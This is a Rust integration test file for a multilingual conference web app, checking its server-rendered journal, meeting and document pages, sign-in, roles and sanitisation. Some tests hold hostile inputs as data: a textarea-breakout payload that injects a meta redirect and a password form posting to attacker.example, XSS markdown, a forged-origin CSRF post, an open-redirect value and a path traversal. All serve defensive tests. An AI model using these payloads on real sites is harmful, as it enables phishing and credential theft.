//! Pages rendered on the server, read as a browser with JavaScript off would.

use plenary_tests::{Backend, Hub, Scheduler};
use serde_json::json;

plenary_tests::on_both_backends!(
    the_journal_page_lists_the_day_in_six_languages,
    a_meeting_page_lists_its_agenda_and_documents_by_language,
    the_library_searches_and_filters_without_javascript,
    the_working_pages_ask_for_sign_in_and_the_right_role,
    text_areas_hold_what_was_saved_as_text_and_nothing_more,
);

async fn the_journal_page_lists_the_day_in_six_languages(b: Backend) {
    let hub = Hub::start(b).await;
    let manager = hub.user("conference_manager", None).await;
    let body = Scheduler(&manager).body("Second Committee").await;
    let r = manager
        .post(
            "/api/v1/meetings",
            json!({"title": "12th plenary <meeting>", "body_id": body, "starts_local": "2030-10-01T10:00",
                   "ends_local": "2030-10-01T13:00", "time_zone": "America/New_York", "access": "public",
                   "invited_delegations": [],
                   "agenda": [{"number": "17 (a)", "title": "Macroeconomic policy questions"}]}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    let reader = hub.anonymous();
    // New York's 10:00 is Geneva's 16:00 that day.
    let page = reader
        .get("/journal?date=2030-10-01&time_zone=Europe/Zurich&lang=en")
        .await;
    assert_eq!(page.status, 200, "{}", page.text);
    assert!(page
        .header("content-type")
        .is_some_and(|c| c.starts_with("text/html")));
    let html = &page.text;
    assert!(html.contains("<html lang=\"en\" dir=\"ltr\">"));
    assert!(html.contains("12th plenary &lt;meeting&gt;"), "{html}");
    assert!(html.contains("16:00–19:00"), "{html}");
    assert!(html.contains("17 (a). Macroeconomic policy questions"));
    assert!(html.contains("1 October 2030"));
    assert!(
        !html.contains("<script"),
        "readable with JavaScript off: no script at all"
    );
    // The day, the zone and the neighbouring days, as a plain form and links.
    assert!(html.contains("name=\"time_zone\""), "{html}");
    assert!(
        html.contains("?date=2030-09-30&amp;time_zone=Europe/Zurich")
            || html.contains("?date=2030-09-30&time_zone=Europe/Zurich"),
        "{html}"
    );
    assert!(
        html.contains("/calendar.ics"),
        "each meeting's calendar file: {html}"
    );
    assert!(
        !html.contains("name=\"mine\""),
        "no own meetings for visitors"
    );
    // An empty zone (as an empty form field sends it) is UTC.
    let utc = reader.get("/journal?date=2030-10-01&time_zone=").await;
    assert_eq!(utc.status, 200);
    assert!(utc.text.contains("14:00–17:00"), "{}", utc.text);
    assert!(utc.header("set-cookie").is_none());
    // A zone chosen is remembered: the Journal and meetings' pages use it after.
    assert_eq!(
        page.header("set-cookie"),
        Some("plenary_zone=Europe/Zurich; Path=/; Max-Age=31536000; SameSite=Lax; HttpOnly")
    );
    let remembered = reader
        .raw_with(
            reqwest::Method::GET,
            "/journal?date=2030-10-01",
            None,
            Vec::new(),
            &[("cookie", "plenary_zone=Europe/Zurich")],
        )
        .await;
    assert!(
        remembered.text.contains("16:00–19:00"),
        "{}",
        remembered.text
    );
    let bogus = reader
        .raw_with(
            reqwest::Method::GET,
            "/journal?date=2030-10-01",
            None,
            Vec::new(),
            &[("cookie", "plenary_zone=Mars/Olympus")],
        )
        .await;
    assert!(
        bogus.text.contains("14:00–17:00"),
        "a zone that is none is UTC: {}",
        bogus.text
    );
    // Signed in: "my meetings" keeps those of the reader's delegation or chair.
    let peru = hub.delegation("PER").await;
    let r = manager
        .post(
            "/api/v1/meetings",
            json!({"title": "Informal consultations", "body_id": body, "starts_local": "2030-10-01T15:00",
                   "ends_local": "2030-10-01T16:00", "time_zone": "America/New_York", "access": "closed",
                   "invited_delegations": [peru]}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    let delegate = hub.user("delegate", Some(&peru)).await;
    let all = delegate
        .get("/journal?date=2030-10-01&time_zone=America/New_York")
        .await;
    assert!(all.text.contains("12th plenary") && all.text.contains("Informal consultations"));
    assert!(all.text.contains("name=\"mine\""), "{}", all.text);
    let mine = delegate
        .get("/journal?date=2030-10-01&time_zone=America/New_York&mine=true")
        .await;
    assert!(!mine.text.contains("12th plenary"), "{}", mine.text);
    assert!(mine.text.contains("Informal consultations"));
    // Each official language, Arabic right to left.
    for (lang, heading, dir) in [
        ("ar", "يومية الأمم المتحدة", "rtl"),
        ("zh", "日刊", "ltr"),
        ("fr", "Journal", "ltr"),
        ("ru", "Журнал", "ltr"),
        ("es", "Diario", "ltr"),
    ] {
        let page = reader
            .get(&format!(
                "/journal?date=2030-10-01&time_zone=Europe/Zurich&lang={lang}"
            ))
            .await;
        assert_eq!(page.status, 200);
        assert!(page
            .text
            .contains(&format!("<html lang=\"{lang}\" dir=\"{dir}\">")));
        assert!(page.text.contains(heading), "{lang}");
    }
    // The browser's language when none is asked for.
    let page = reader
        .raw_with(
            reqwest::Method::GET,
            "/journal?date=2030-10-01",
            None,
            Vec::new(),
            &[("accept-language", "es-419,es;q=0.9,en;q=0.8")],
        )
        .await;
    assert!(page.text.contains("<html lang=\"es\""), "{}", page.text);
    // Another day is empty; a bad zone gets a problem, not a page.
    let empty = reader.get("/journal?date=2030-10-02&lang=fr").await;
    assert!(empty.text.contains("Aucune séance ce jour-là."));
    reader
        .get("/journal?date=2030-10-01&time_zone=Mars/Olympus")
        .await
        .assert_problem(422, "validation_failed");
    // The stylesheet is a file of its own (no inline style under the CSP).
    let css = reader.get("/assets/plenary.css").await;
    assert_eq!(css.status, 200);
    assert!(css
        .header("content-type")
        .is_some_and(|c| c.starts_with("text/css")));
    assert!(css.text.contains("inset-inline-start"));
}

async fn a_meeting_page_lists_its_agenda_and_documents_by_language(b: Backend) {
    let hub = Hub::start(b).await;
    let manager = hub.user("conference_manager", None).await;
    let body = Scheduler(&manager).body("Third Committee").await;
    let r = manager
        .post(
            "/api/v1/meetings",
            json!({"title": "30th meeting", "body_id": body, "starts_local": "2030-10-02T15:00",
                   "ends_local": "2030-10-02T18:00", "time_zone": "America/New_York", "access": "public",
                   "invited_delegations": [],
                   "agenda": [{"number": "68", "title": "Rights of indigenous peoples"},
                              {"number": "69", "title": "Promotion and protection of human rights"}]}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    let meeting = r.json()["id"].as_str().expect("id").to_string();
    let secretariat = hub.user("secretariat", None).await;
    let create = |symbol: &'static str, position: Option<u32>, distribution: &'static str| {
        let secretariat = &secretariat;
        let meeting = meeting.clone();
        async move {
            let r = secretariat
                .post(
                    "/api/v1/documents",
                    json!({"symbol": symbol, "title": format!("Draft {symbol}"), "distribution": distribution,
                           "restricted_to": [], "meeting_id": meeting, "agenda_position": position}),
                )
                .await;
            assert_eq!(r.status, 201, "{}", r.text);
            r.json()["id"].as_str().expect("id").to_string()
        }
    };
    let on_item = create("A/C.3/85/L.7", Some(1), "general").await;
    let general = create("A/C.3/85/1", None, "general").await;
    let limited = create("A/C.3/85/L.8", Some(0), "limited").await;
    for (id, lang) in [
        (&on_item, "en"),
        (&on_item, "fr"),
        (&general, "en"),
        (&limited, "en"),
    ] {
        let r = secretariat
            .raw(
                reqwest::Method::PUT,
                &format!("/api/v1/documents/{id}/files/{lang}?filename=draft.txt"),
                Some("text/plain"),
                format!("Draft in {lang}").into_bytes(),
            )
            .await;
        assert_eq!(r.status, 201, "{}", r.text);
    }
    let reader = hub.anonymous();
    let page = reader
        .get(&format!(
            "/meetings/{meeting}?lang=fr&time_zone=Europe/Paris"
        ))
        .await;
    assert_eq!(page.status, 200, "{}", page.text);
    let html = &page.text;
    assert!(html.contains("<html lang=\"fr\" dir=\"ltr\">"));
    assert!(
        html.contains("2 octobre 2030 · 21:00–00:00 (Europe/Paris) · Prévue"),
        "{html}"
    );
    assert!(html.contains("Ordre du jour"));
    assert!(html.contains("68. Rights of indigenous peoples"));
    // The item's document with its two issued languages, in order, under item 69.
    let item = html.find("69. Promotion").expect("item 69");
    let doc = html.find("A/C.3/85/L.7").expect("the item's document");
    assert!(doc > item);
    assert!(html.contains(&format!("/api/v1/documents/{on_item}/files/en")));
    assert!(html.contains(&format!("/api/v1/documents/{on_item}/files/fr")));
    assert!(
        !html.contains(&format!("/api/v1/documents/{on_item}/files/ar")),
        "not issued in Arabic"
    );
    // The meeting's general document under "Other documents"; the limited one
    // only for signed-in readers.
    assert!(
        html.find("Autres documents").expect("others") < html.find("A/C.3/85/1").expect("general")
    );
    assert!(!html.contains("A/C.3/85/L.8"));
    let delegate = hub
        .user("delegate", Some(&hub.delegation("QQM").await))
        .await;
    let signed_in = delegate.get(&format!("/meetings/{meeting}?lang=ar")).await;
    assert!(signed_in.text.contains("A/C.3/85/L.8"));
    assert!(signed_in.text.contains("dir=\"rtl\""));
    assert!(!signed_in.text.contains("<script"));
    // A document's page: each language with its status, the issued ones with
    // their file; a limited document is not there for anonymous readers.
    assert!(html.contains(&format!("href=\"/documents/{on_item}\"")));
    let doc = reader.get(&format!("/documents/{on_item}?lang=es")).await;
    assert_eq!(doc.status, 200, "{}", doc.text);
    assert!(doc.text.contains("A/C.3/85/L.7"));
    assert!(doc.text.contains("Distribución: general"));
    assert!(doc
        .text
        .contains(&format!("/api/v1/documents/{on_item}/files/fr")));
    assert_eq!(
        doc.text.matches("Pendiente de traducción").count(),
        4,
        "{}",
        doc.text
    );
    assert!(!doc.text.contains("<script"));
    reader
        .get(&format!("/documents/{limited}"))
        .await
        .assert_problem(404, "not_found");
    assert_eq!(
        delegate.get(&format!("/documents/{limited}")).await.status,
        200
    );
    // From the Journal, the meeting is a link.
    let journal = reader
        .get("/journal?date=2030-10-02&time_zone=America/New_York")
        .await;
    assert!(journal
        .text
        .contains(&format!("href=\"/meetings/{meeting}\"")));
    // Unknown and malformed meetings get problems.
    reader
        .get("/meetings/00000000-0000-0000-0000-000000000000")
        .await
        .assert_problem(404, "not_found");
    reader
        .get(&format!("/meetings/{meeting}?time_zone=Nowhere"))
        .await
        .assert_problem(422, "validation_failed");
}

async fn form(
    client: &plenary_tests::Client,
    path: &str,
    body: &str,
    origin: &str,
) -> plenary_tests::Resp {
    client
        .raw_with(
            reqwest::Method::POST,
            path,
            Some("application/x-www-form-urlencoded"),
            body.as_bytes().to_vec(),
            &[("origin", origin)],
        )
        .await
}

#[tokio::test]
async fn the_sign_in_form_opens_a_session_and_the_room_asks_for_one() {
    let hub = Hub::start(Backend::Sqlite).await;
    let chile = hub.delegation("CHL").await;
    let (email, password) = hub
        .account("delegate", "Delegate of Chile", Some(&chile))
        .await;
    let visitor = hub.unredirected();
    let origin = hub.url.clone();

    // The form itself, readable without JavaScript.
    let page = visitor.get("/sign-in?next=/journal&lang=fr").await;
    assert_eq!(page.status, 200);
    assert!(page.text.contains("<html lang=\"fr\""), "{}", page.text);
    assert!(
        page.text.contains("name=\"password\" type=\"password\""),
        "{}",
        page.text
    );

    // A wrong password shows the form again with the reason, keeping the email.
    let wrong = form(
        &visitor,
        "/sign-in",
        &format!("email={email}&password=nope&next=/journal"),
        &origin,
    )
    .await;
    assert_eq!(wrong.status, 401);
    assert!(
        wrong.text.contains("Wrong email or password."),
        "{}",
        wrong.text
    );
    assert!(
        wrong.text.contains(&format!("value=\"{email}\"")),
        "{}",
        wrong.text
    );
    assert!(wrong.header("set-cookie").is_none());

    // From another site, the form is refused whatever the password.
    let foreign = form(
        &visitor,
        "/sign-in",
        &format!("email={email}&password={password}"),
        "https://evil.example",
    )
    .await;
    foreign.assert_problem(403, "csrf_failed");

    // Signed in: the cookie, then on to `next`, but only within the hub.
    let body = format!(
        "email={email}&password={}&next=%2F%2Fevil.example%2F",
        password.replace(' ', "+")
    );
    let ok = form(&visitor, "/sign-in", &body, &origin).await;
    assert_eq!(ok.status, 303, "{}", ok.text);
    assert_eq!(ok.header("location"), Some("/journal"));
    let cookie = ok.header("set-cookie").expect("session cookie");
    assert!(
        cookie.contains("HttpOnly") && cookie.contains("SameSite"),
        "{cookie}"
    );
    let mut member = hub.unredirected();
    member.cookie = cookie.split(';').next().map(str::to_string);

    // Every page then shows who is signed in, with a sign-out form.
    let journal = member.get("/journal").await;
    assert!(
        journal.text.contains("Delegate of Chile"),
        "{}",
        journal.text
    );
    let csrf = member.get("/api/v1/session").await.json()["csrf_token"]
        .as_str()
        .expect("csrf")
        .to_string();
    assert!(journal
        .text
        .contains(&format!("name=\"csrf_token\" value=\"{csrf}\"")));

    // The room: a visitor is sent to sign in first and comes back to it.
    let manager = hub.user("conference_manager", None).await;
    let committee = Scheduler(&manager).body("Third Committee").await;
    let r = manager
        .post(
            "/api/v1/meetings",
            json!({"title": "5th meeting", "body_id": committee, "starts_local": "2030-10-02T10:00",
                   "ends_local": "2030-10-02T13:00", "time_zone": "UTC", "access": "public",
                   "invited_delegations": []}),
        )
        .await;
    let id = r.json()["id"].as_str().expect("id").to_string();
    let door = visitor.get(&format!("/meetings/{id}/room")).await;
    assert_eq!(door.status, 303);
    assert_eq!(
        door.header("location"),
        Some(format!("/sign-in?lang=en&next=/meetings/{id}/room").as_str())
    );
    // The meeting's page offers the way in to the signed-in only.
    assert!(!visitor
        .get(&format!("/meetings/{id}"))
        .await
        .text
        .contains("class=\"join\""));
    assert!(member
        .get(&format!("/meetings/{id}"))
        .await
        .text
        .contains(&format!("href=\"/meetings/{id}/room?lang=en\"")));
    // This hub was started without the browser part: the room says so.
    member
        .get(&format!("/meetings/{id}/room"))
        .await
        .assert_problem(503, "unavailable");

    // Signing out needs the session's CSRF token.
    let forged = form(&member, "/sign-out", "csrf_token=forged", &origin).await;
    forged.assert_problem(403, "csrf_failed");
    let out = form(&member, "/sign-out", &format!("csrf_token={csrf}"), &origin).await;
    assert_eq!(out.status, 303);
    member
        .get("/api/v1/session")
        .await
        .assert_problem(401, "unauthenticated");
}

#[tokio::test]
async fn the_browser_part_is_served_compressed_and_revalidated() {
    let dir = plenary_tests::browser_dir();
    let hub = Hub::start_with(Backend::Sqlite, &[("PLENARY_BROWSER_DIR", dir.as_str())]).await;
    let client = hub.anonymous();
    let wasm = client
        .raw_with(
            reqwest::Method::GET,
            "/pkg/plenary_bg.wasm",
            None,
            Vec::new(),
            &[("accept-encoding", "gzip")],
        )
        .await;
    assert_eq!(wasm.status, 200);
    assert_eq!(wasm.header("content-type"), Some("application/wasm"));
    let etag = wasm.header("etag").expect("etag").to_string();
    let again = client
        .raw_with(
            reqwest::Method::GET,
            "/pkg/plenary_bg.wasm",
            None,
            Vec::new(),
            &[("if-none-match", etag.as_str())],
        )
        .await;
    assert_eq!(again.status, 304);
    let boot = client.get("/pkg/boot.js").await;
    assert_eq!(boot.status, 200);
    assert!(boot
        .header("content-type")
        .is_some_and(|c| c.starts_with("text/javascript")));
    assert!(boot.text.contains("hydrate"));
    // The meeting room's own build, in brotli once it is made (browsers
    // take brotli over HTTPS), in gzip to those that take only gzip.
    let first = client
        .raw_with(
            reqwest::Method::GET,
            "/pkg/room/plenary_bg.wasm",
            None,
            Vec::new(),
            &[("accept-encoding", "br, gzip")],
        )
        .await;
    assert_eq!(
        first.header("content-encoding"),
        Some("gzip"),
        "gzip while brotli is being made"
    );
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while !hub.state.browser.brotli_ready() {
        assert!(
            std::time::Instant::now() < deadline,
            "brotli was never made"
        );
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let mut sizes = Vec::new();
    for coding in ["gzip", "br, gzip"] {
        let room = client
            .raw_with(
                reqwest::Method::GET,
                "/pkg/room/plenary_bg.wasm",
                None,
                Vec::new(),
                &[("accept-encoding", coding)],
            )
            .await;
        assert_eq!(room.status, 200);
        assert_eq!(room.header("content-type"), Some("application/wasm"));
        let used = room.header("content-encoding").map(str::to_string);
        let length: usize = room
            .header("content-length")
            .and_then(|n| n.parse().ok())
            .expect("a length");
        sizes.push((used, length));
    }
    assert_eq!(sizes[0].0.as_deref(), Some("gzip"));
    assert_eq!(sizes[1].0.as_deref(), Some("br"));
    assert!(sizes[1].1 < sizes[0].1, "brotli is smaller: {sizes:?}");
    assert!(client
        .get("/pkg/room/boot.js")
        .await
        .text
        .contains("hydrate"));
    client
        .get("/pkg/../Cargo.toml")
        .await
        .assert_problem(404, "not_found");
    client
        .get("/pkg/other.js")
        .await
        .assert_problem(404, "not_found");
}

async fn the_library_searches_and_filters_without_javascript(b: Backend) {
    let hub = Hub::start(b).await;
    let clerk = hub.user("secretariat", None).await;
    let mut ids = Vec::new();
    for (symbol, title, distribution) in [
        ("A/C.2/85/L.7", "Oceans and the law of the sea", "general"),
        ("A/C.2/85/L.8", "Desertification in drylands", "limited"),
    ] {
        let r = clerk
            .post(
                "/api/v1/documents",
                json!({"symbol": symbol, "title": title, "distribution": distribution}),
            )
            .await;
        assert_eq!(r.status, 201, "{}", r.text);
        ids.push(r.json()["id"].as_str().expect("id").to_string());
    }
    let r = clerk
        .raw(
            reqwest::Method::PUT,
            &format!("/api/v1/documents/{}/files/fr?filename=oceans.txt", ids[0]),
            Some("application/octet-stream"),
            b"Les oceans et le droit de la mer: les coraux.".to_vec(),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);

    hub.index().await;
    // Anonymous readers: the general document only, in the list and in search.
    let anon = hub.anonymous();
    let list = anon.get("/documents?lang=en").await;
    assert_eq!(list.status, 200);
    assert!(list.text.contains("A/C.2/85/L.7"), "{}", list.text);
    assert!(!list.text.contains("A/C.2/85/L.8"), "{}", list.text);
    assert!(!list.text.contains("<script"), "no script: {}", list.text);
    assert!(list.text.contains("role=\"search\""), "{}", list.text);
    let found = anon.get("/documents?q=coraux&language=fr&lang=fr").await;
    assert_eq!(found.status, 200);
    assert!(found.text.contains("A/C.2/85/L.7"), "{}", found.text);
    assert!(
        found.text.contains("<b>coraux</b>"),
        "the passage: {}",
        found.text
    );
    let nothing = anon.get("/documents?q=coraux&language=ru").await;
    assert!(
        nothing.text.contains("No documents found."),
        "{}",
        nothing.text
    );
    let hidden = anon.get("/documents?q=desertification").await;
    assert!(!hidden.text.contains("A/C.2/85/L.8"), "{}", hidden.text);
    // Empty fields, as a submitted form sends them, filter nothing.
    let empty = anon
        .get("/documents?lang=en&q=&language=&distribution=&from=&until=")
        .await;
    assert_eq!(empty.status, 200);
    assert!(empty.text.contains("A/C.2/85/L.7"));

    // Signed in: the limited one too, and the filters narrow.
    let delegate = hub
        .user("delegate", Some(&hub.delegation("PER").await))
        .await;
    let limited = delegate.get("/documents?distribution=limited").await;
    assert!(limited.text.contains("A/C.2/85/L.8"), "{}", limited.text);
    assert!(!limited.text.contains("A/C.2/85/L.7"), "{}", limited.text);
    let issued_in_french = delegate.get("/documents?language=fr").await;
    assert!(issued_in_french.text.contains("A/C.2/85/L.7"));
    assert!(!issued_in_french.text.contains("A/C.2/85/L.8"));
    let later = delegate.get("/documents?from=2099-01-01").await;
    assert!(later.text.contains("No documents found."));
    // Only the secretariat is offered a new document.
    assert!(!delegate
        .get("/documents")
        .await
        .text
        .contains("/documents/new"));
    assert!(clerk
        .get("/documents")
        .await
        .text
        .contains("/documents/new"));

    // Bad filters are problems, not pages.
    anon.get("/documents?language=xx")
        .await
        .assert_problem(422, "validation_failed");
    anon.get("/documents?distribution=secret")
        .await
        .assert_problem(422, "validation_failed");
    anon.get("/documents?from=yesterday")
        .await
        .assert_problem(422, "validation_failed");
}

async fn the_working_pages_ask_for_sign_in_and_the_right_role(b: Backend) {
    let dir = plenary_tests::browser_dir();
    let hub = Hub::start_with(b, &[("PLENARY_BROWSER_DIR", dir.as_str())]).await;
    let manager = hub.user("conference_manager", None).await;
    let body = Scheduler(&manager).body("Fourth Committee").await;
    let r = manager
        .post(
            "/api/v1/meetings",
            json!({"title": "2nd meeting", "body_id": body, "starts_local": "2031-03-04T15:00",
                   "ends_local": "2031-03-04T18:00", "time_zone": "Europe/Vienna",
                   "agenda": [{"number": "50", "title": "Peacekeeping"}]}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    let meeting = r.json()["id"].as_str().expect("id").to_string();
    let admin = hub.admin().await;
    let clerk = hub.user("secretariat", None).await;
    let delegate = hub
        .user("delegate", Some(&hub.delegation("NPL").await))
        .await;

    // Not signed in: to the sign-in page, and back here after.
    let visitor = hub.unredirected();
    for path in [
        "/schedule".to_string(),
        "/admin".into(),
        "/account".into(),
        "/documents/new".into(),
        format!("/meetings/{meeting}/edit"),
        format!("/meetings/{meeting}/minutes/edit"),
    ] {
        let r = visitor.get(&path).await;
        assert_eq!(r.status, 303, "{path}");
        let to = r.header("location").expect("location");
        assert!(to.starts_with("/sign-in?"), "{to}");
        assert!(to.contains(&format!("next={path}")), "{to}");
    }

    // The wrong role: refused.
    for (who, path) in [
        (&delegate, "/schedule".to_string()),
        (&clerk, "/schedule".into()),
        (&manager, "/admin".into()),
        (&delegate, "/documents/new".into()),
        (&manager, "/documents/new".into()),
        (&delegate, format!("/meetings/{meeting}/edit")),
        (&delegate, format!("/meetings/{meeting}/minutes/edit")),
    ] {
        who.get(&path).await.assert_problem(403, "forbidden");
    }

    // The right role: the page with its forms, which load the browser part.
    let schedule = manager.get("/schedule").await;
    assert_eq!(schedule.status, 200);
    assert!(schedule.text.contains("2nd meeting"), "{}", schedule.text);
    assert!(
        schedule
            .text
            .contains("4 March 2031, 15:00–18:00 (Europe/Vienna)"),
        "the date as the language writes it: {}",
        schedule.text
    );
    let french = manager.get("/schedule?lang=fr").await;
    assert!(
        french.text.contains("4 mars 2031, 15:00–18:00"),
        "{}",
        french.text
    );
    assert!(schedule.text.contains("/pkg/boot.js"));
    assert!(schedule
        .header("content-security-policy")
        .is_some_and(|c| c.contains("'wasm-unsafe-eval'")));
    let edit = manager.get(&format!("/meetings/{meeting}/edit")).await;
    assert_eq!(edit.status, 200);
    assert!(
        edit.text.contains("50: Peacekeeping"),
        "the agenda to edit: {}",
        edit.text
    );
    assert!(edit.text.contains("2031-03-04T15:00"), "{}", edit.text);
    let people = admin.get("/admin").await;
    assert_eq!(people.status, 200);
    assert!(people.text.contains("NPL"), "{}", people.text);
    assert_eq!(clerk.get("/documents/new").await.status, 200);
    let editor = clerk
        .get(&format!("/meetings/{meeting}/minutes/edit"))
        .await;
    assert_eq!(editor.status, 200);
    assert!(editor.text.contains("start-minutes"), "{}", editor.text);
    // The account bar links each role to its pages.
    assert!(manager
        .get("/journal")
        .await
        .text
        .contains("href=\"/schedule?lang=en\""));
    assert!(!delegate.get("/journal").await.text.contains("/schedule"));
    assert!(admin
        .get("/journal")
        .await
        .text
        .contains("href=\"/admin?lang=en\""));
    // Everyone signed in has their account's page, linked from the bar,
    // where they change their password.
    let journal = delegate.get("/journal").await.text;
    assert!(journal.contains("href=\"/account?lang=en\""), "{journal}");
    let account = delegate.get("/account").await;
    assert_eq!(account.status, 200);
    assert!(account.text.contains("Test delegate"), "{}", account.text);
    assert!(account.text.contains("/api/v1/session/password"));
    assert!(account.text.contains("autocomplete=\"current-password\""));
    assert!(account.text.contains("autocomplete=\"new-password\""));
    assert!(!account.text.contains("Your password was changed."));
    let done = delegate.get("/account?changed=true&lang=fr").await;
    assert!(
        done.text.contains("Votre mot de passe a été changé."),
        "{}",
        done.text
    );
    // A meeting's page offers its minutes, and its edit page to managers only.
    let page = manager.get(&format!("/meetings/{meeting}")).await;
    assert!(page.text.contains(&format!("/meetings/{meeting}/edit")));
    assert!(page.text.contains(&format!("/meetings/{meeting}/minutes")));
    assert!(!delegate
        .get(&format!("/meetings/{meeting}"))
        .await
        .text
        .contains("/edit"));

    // The minutes' page before anything is published: it says so, without script.
    let minutes = hub
        .anonymous()
        .get(&format!("/meetings/{meeting}/minutes"))
        .await;
    assert_eq!(minutes.status, 200);
    assert!(
        minutes.text.contains("The minutes are not published yet."),
        "{}",
        minutes.text
    );
    assert!(!minutes.text.contains("<script"));
    // Started but unpublished minutes stay hidden from delegates.
    let r = clerk
        .post(
            &format!("/api/v1/meetings/{meeting}/minutes"),
            json!({"symbol": "A/C.4/86/SR.2", "language": "en"}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    let draft = delegate.get(&format!("/meetings/{meeting}/minutes")).await;
    assert!(draft.text.contains("The minutes are not published yet."));
    assert!(!draft.text.contains("A/C.4/86/SR.2"));
    let staff = clerk.get(&format!("/meetings/{meeting}/minutes")).await;
    assert!(staff.text.contains("A/C.4/86/SR.2"));
    assert!(staff.text.contains("Draft"));
}

#[tokio::test]
async fn the_preview_is_sanitised_and_for_the_secretariat() {
    let hub = Hub::start(Backend::Sqlite).await;
    let clerk = hub.user("secretariat", None).await;
    let r = clerk
        .post(
            "/api/v1/preview",
            json!({"markdown": "# Summary\n\n<script>alert(1)</script>\n\n[link](javascript:alert(1)) **bold**\n\n<img src=\"https://tracker.example/x.png\">"}),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    let html = r.json()["html"].as_str().expect("html").to_string();
    assert!(html.contains("<h1>Summary</h1>"), "{html}");
    assert!(html.contains("<strong>bold</strong>"), "{html}");
    assert!(!html.contains("<script"), "{html}");
    assert!(!html.contains("javascript:"), "{html}");
    assert!(!html.contains("<img"), "{html}");
    clerk
        .post("/api/v1/preview", json!({"markdown": "bell \u{7}"}))
        .await
        .assert_problem(422, "validation_failed");
    clerk
        .post("/api/v1/preview", json!({"text": "x"}))
        .await
        .assert_problem(400, "invalid_json");
    let delegate = hub
        .user("delegate", Some(&hub.delegation("ITA").await))
        .await;
    delegate
        .post("/api/v1/preview", json!({"markdown": "x"}))
        .await
        .assert_problem(403, "forbidden");
    hub.anonymous()
        .post("/api/v1/preview", json!({"markdown": "x"}))
        .await
        .assert_problem(401, "unauthenticated");
}

/// A text that closes its text area and then writes what would redirect the
/// reader and ask for their password on another site.
const BREAKOUT: &str =
    "</textarea><meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/\">\
<form id=\"injected\" action=\"https://attacker.example/steal\"><input name=\"password\"></form>";

/// Parses a page as a browser does (HTML5) and checks that nothing of
/// [`BREAKOUT`] became an element, and that `field` holds it as text.
fn assert_only_text(html: &str, field: &str) {
    let page = scraper::Html::parse_document(html);
    let select = |css: &str| scraper::Selector::parse(css).expect("selector");
    assert_eq!(
        page.select(&select("meta[http-equiv]")).count(),
        0,
        "a meta refresh came from the text: {html}"
    );
    assert_eq!(page.select(&select("form#injected")).count(), 0, "{html}");
    assert_eq!(
        page.select(&select("form[action^=\"https://attacker\"]"))
            .count(),
        0,
        "{html}"
    );
    let area = page
        .select(&select(field))
        .next()
        .unwrap_or_else(|| panic!("no {field} in {html}"));
    let text: String = area.text().collect();
    assert!(text.contains(BREAKOUT), "the field's text: {text:?}");
}

async fn text_areas_hold_what_was_saved_as_text_and_nothing_more(b: Backend) {
    let dir = plenary_tests::browser_dir();
    let hub = Hub::start_with(b, &[("PLENARY_BROWSER_DIR", dir.as_str())]).await;
    let manager = hub.user("conference_manager", None).await;
    let body = Scheduler(&manager).body("Sixth Committee").await;
    let r = manager
        .post(
            "/api/v1/meetings",
            json!({"title": "3rd meeting", "body_id": body, "starts_local": "2031-03-05T10:00",
                   "ends_local": "2031-03-05T13:00", "time_zone": "America/New_York",
                   "agenda": [{"number": "79", "title": format!("Treaty {BREAKOUT}")}]}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    let meeting = r.json()["id"].as_str().expect("id").to_string();
    let edit = manager.get(&format!("/meetings/{meeting}/edit")).await;
    assert_eq!(edit.status, 200);
    assert_only_text(&edit.text, "textarea[name=agenda]");
    let csp = edit.header("content-security-policy").unwrap_or_default();
    assert!(csp.contains("form-action 'self'"), "{csp}");

    let clerk = hub.user("secretariat", None).await;
    let minutes = format!("/api/v1/meetings/{meeting}/minutes");
    let r = clerk
        .post(
            &minutes,
            json!({"symbol": "A/C.6/86/SR.3", "language": "en"}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    let r = clerk
        .post(
            &format!("{minutes}/revisions"),
            json!({"based_on": 0, "content": format!("The Committee met. {BREAKOUT}")}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    let editor = clerk
        .get(&format!("/meetings/{meeting}/minutes/edit"))
        .await;
    assert_eq!(editor.status, 200);
    assert_only_text(&editor.text, "textarea#minutes-text");
    // The history's times in the reader's zone: the meeting's, or the one
    // the reader chose in the journal.
    assert!(editor.text.contains(" America/New_York"), "{}", editor.text);
    let tokyo = clerk
        .raw_with(
            reqwest::Method::GET,
            &format!("/meetings/{meeting}/minutes/edit"),
            None,
            Vec::new(),
            &[("cookie", "plenary_zone=Asia/Tokyo")],
        )
        .await;
    assert!(tokyo.text.contains(" Asia/Tokyo"), "{}", tokyo.text);
    assert!(!tokyo.text.contains(" UTC"), "{}", tokyo.text);
    let journal = hub.anonymous().get("/journal").await;
    let csp = journal
        .header("content-security-policy")
        .unwrap_or_default();
    assert!(csp.contains("form-action 'self'"), "{csp}");
}
